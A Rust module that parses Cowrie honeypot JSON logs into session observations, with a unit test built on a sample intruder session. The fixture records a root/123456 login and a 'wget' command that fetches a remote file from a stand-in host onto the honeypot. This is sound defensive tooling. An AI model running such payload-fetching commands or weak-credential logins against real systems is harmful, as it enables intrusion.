//! Cowrie's log in JSON, `cowrie.json`: a line for each step.
//!
//! As Cowrie 3.1 writes it (`src/cowrie/output/jsonlog.py`).

use std::net::{IpAddr, SocketAddr};

use serde::Deserialize;
use skep_model::{InteractionKind, interaction::LoginMethod};
use skep_protocol::manifest::Protocol;

use super::observation::{Observation, attribute, login};

#[derive(Deserialize)]
struct Line {
    session: String,
    src_ip: Option<IpAddr>,
    #[serde(default)]
    src_port: u16,
    dst_port: Option<u16>,
    #[serde(flatten)]
    event: Event,
}

#[derive(Deserialize)]
#[serde(tag = "eventid")]
enum Event {
    #[serde(rename = "cowrie.session.connect")]
    Connect,
    #[serde(rename = "cowrie.client.version")]
    Version { version: String },
    #[serde(rename = "cowrie.client.size")]
    Size { width: u32, height: u32 },
    #[serde(rename = "cowrie.login.success")]
    Accepted(Credentials),
    #[serde(rename = "cowrie.login.failed")]
    Refused(Credentials),
    #[serde(rename = "cowrie.command.input")]
    Command { input: String },
    #[serde(rename = "cowrie.session.file_download")]
    Download {
        #[serde(default)]
        url: String,
        #[serde(default)]
        destfile: String,
        shasum: String,
    },
    #[serde(rename = "cowrie.session.file_upload")]
    Upload { filename: String, shasum: String },
    #[serde(rename = "cowrie.session.closed")]
    Closed,
}

/// A try with a password or, if there is a fingerprint, with a key.
#[derive(Deserialize)]
struct Credentials {
    username: String,
    #[serde(default)]
    password: String,
    fingerprint: Option<String>,
}

impl Credentials {
    fn login(self, accepted: bool) -> InteractionKind {
        let user = self.username.into();
        match self.fingerprint {
            Some(fingerprint) => InteractionKind::Login {
                user,
                secret: fingerprint.into(),
                method: LoginMethod::Key,
                accepted,
            },
            None => login(user, self.password.into(), accepted),
        }
    }
}

/// What is known of a file: its length is not among it.
fn file(name: String, url: String, sha256: String) -> Vec<InteractionKind> {
    [
        (InteractionKind::URL, url),
        ("file_name", name),
        ("file_sha256", sha256),
    ]
    .into_iter()
    .filter(|(_, value)| !value.is_empty())
    .filter_map(|(name, value)| attribute(name, value.into()))
    .collect()
}

pub(super) fn read(line: &[u8]) -> Option<Observation> {
    let line: Line = serde_json::from_slice(line).ok()?;
    let opens = matches!(line.event, Event::Connect);
    let closes = matches!(line.event, Event::Closed);
    let steps = match line.event {
        Event::Closed => vec![],
        Event::Connect => vec![InteractionKind::Connect],
        Event::Version { version } => vec![InteractionKind::Banner {
            text: version.into(),
        }],
        Event::Size { width, height } => {
            vec![attribute(
                InteractionKind::TERMINAL,
                format!("{width}x{height}").into(),
            )?]
        }
        Event::Accepted(credentials) => vec![credentials.login(true)],
        Event::Refused(credentials) => vec![credentials.login(false)],
        Event::Command { input } => {
            vec![InteractionKind::Command {
                line: input.into(),
                protocol: false,
            }]
        }
        Event::Download {
            url,
            destfile,
            shasum,
        } => file(destfile, url, shasum),
        Event::Upload { filename, shasum } => file(filename, String::new(), shasum),
    };
    Some(Observation {
        session: line.session,
        // Every line names the source, but only the first its port.
        source: line
            .src_ip
            .filter(|_| opens)
            .map(|ip| SocketAddr::new(ip, line.src_port)),
        port: line.dst_port.filter(|_| opens),
        protocol: Protocol::Tcp,
        steps,
        end: closes.then(|| "the session ended".to_owned()),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// As Cowrie 3.1 writes them.
    const SESSION: &str = r#"
{"eventid":"cowrie.session.connect","src_ip":"203.0.113.9","src_port":51012,"dst_ip":"198.18.0.2","dst_port":2222,"session":"c12f2ae1d0a5","protocol":"ssh","message":"New connection: 203.0.113.9:51012 (198.18.0.2:2222) [session: c12f2ae1d0a5]","sensor":"a1","timestamp":"2026-03-01T10:00:00.000000Z"}
{"eventid":"cowrie.client.version","version":"SSH-2.0-Go","message":"Remote SSH version: SSH-2.0-Go","sensor":"a1","timestamp":"2026-03-01T10:00:00.100000Z","src_ip":"203.0.113.9","session":"c12f2ae1d0a5"}
{"eventid":"cowrie.login.failed","username":"pi","fingerprint":"aa:bb","key":"ssh-rsa AAAA","type":"ssh-rsa","message":"public key login attempt for [pi] failed","src_ip":"203.0.113.9","session":"c12f2ae1d0a5"}
{"eventid":"cowrie.login.success","username":"root","password":"123456","message":"login attempt [root/123456] succeeded","src_ip":"203.0.113.9","session":"c12f2ae1d0a5"}
{"eventid":"cowrie.client.size","width":80,"height":24,"message":"Terminal Size: 80 24","src_ip":"203.0.113.9","session":"c12f2ae1d0a5"}
{"eventid":"cowrie.command.input","input":"wget http://203.0.113.80/x","message":"CMD: wget http://203.0.113.80/x","src_ip":"203.0.113.9","session":"c12f2ae1d0a5"}
{"eventid":"cowrie.session.file_download","url":"http://203.0.113.80/x","outfile":"var/lib/cowrie/downloads/e3b0","shasum":"e3b0","destfile":"/root/x","src_ip":"203.0.113.9","session":"c12f2ae1d0a5"}
{"eventid":"cowrie.log.closed","ttylog":"var/lib/cowrie/tty/1","size":10,"src_ip":"203.0.113.9","session":"c12f2ae1d0a5"}
{"eventid":"cowrie.session.closed","duration":"12.3","message":"Connection lost after 12.3 seconds","src_ip":"203.0.113.9","session":"c12f2ae1d0a5"}"#;

    #[test]
    fn a_session_is_read() {
        let read: Vec<_> = SESSION
            .lines()
            .filter_map(|line| read(line.as_bytes()))
            .collect();
        assert!(read.iter().all(|it| it.session == "c12f2ae1d0a5"));
        assert_eq!(read[0].source, Some("203.0.113.9:51012".parse().unwrap()));
        assert_eq!(read[0].port, Some(2222));
        assert!(read[1..].iter().all(|it| it.source.is_none()));
        let (last, before) = read.split_last().unwrap();
        assert_eq!(last.end.as_deref(), Some("the session ended"));
        assert!(before.iter().all(|it| it.end.is_none()));
        let steps: Vec<_> = read.into_iter().flat_map(|it| it.steps).collect();
        let login = |user: &str, secret: &str, method, accepted| InteractionKind::Login {
            user: user.into(),
            secret: secret.into(),
            method,
            accepted,
        };
        let named = |name: &str, value: &str| attribute(name, value.into()).unwrap();
        assert_eq!(
            steps,
            [
                InteractionKind::Connect,
                InteractionKind::Banner {
                    text: "SSH-2.0-Go".into()
                },
                login("pi", "aa:bb", LoginMethod::Key, false),
                login("root", "123456", LoginMethod::Password, true),
                named("terminal", "80x24"),
                InteractionKind::Command {
                    line: "wget http://203.0.113.80/x".into(),
                    protocol: false
                },
                named("url", "http://203.0.113.80/x"),
                named("file_name", "/root/x"),
                named("file_sha256", "e3b0"),
            ]
        );
    }
}
